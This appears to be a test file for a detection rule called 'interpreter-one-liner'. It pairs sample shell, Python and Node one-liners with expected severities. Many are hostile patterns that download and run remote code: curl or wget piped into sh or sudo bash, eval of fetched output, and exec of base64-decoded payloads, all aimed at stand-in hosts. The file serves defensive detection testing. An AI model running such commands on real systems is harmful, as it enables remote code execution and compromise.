import { ruleTable } from "../../../testing/rule-table.ts";

ruleTable("interpreter-one-liner", {
  steps: [
    ["da1-03", "High"],
    ["da2-08", "High"],
    ["da2-12", "High"],
    ["da3-11", "High"],
  ],
  passes: [
    ["python", "-c"],
    ["bash", "curl -sSL"],
    ["bash", "cat > /tmp/p.py"],
    ["sh", "-c"],
  ],
  commands: [
    ["/bin/sh", '-c "curl -fsSL https://x.example/i.sh | sh"', "High"],
    ["/bin/bash", '-c "wget -qO- http://x | sudo bash"', "High"],
    ["/bin/bash", '-c "bash <(curl -s http://x)"', "High"],
    ["/bin/bash", '-c "eval $(curl -s http://x)"', "High"],
    ["/bin/sh", '-c "echo aWQ= | base64 -d | sh"', "High"],
    ["/bin/sh", '-c "curl -s http://x | python3 -"', "High"],
    ["/bin/sh", '-c "curl -sSL https://x | head -c 100"', "none"],
    ["/bin/sh", '-c "base64 -d x | gunzip > y"', "none"],
    ["/bin/sh", '-c "curl -s http://x | jq ."', "none"],
    ["/usr/bin/python3", '-c "import urllib.request,os;os.system(urllib.request.urlopen(u).read())"', "High"],
    ["/usr/bin/python3", '-c "import base64;exec(base64.b64decode(x))"', "High"],
    ["/usr/bin/node", "-e require('child_process').execSync(require('net').connect(1))", "High"],
    ["/usr/bin/python3", '-c "import ctypes;ctypes.CDLL(None)"', "High"],
    ["/usr/bin/python3", '-c "print(1)"', "none"],
    ["/usr/bin/python3", "-m http.server 8000", "none"],
    ["/usr/bin/python3", "app.py --compile eval(", "none"],
  ],
});
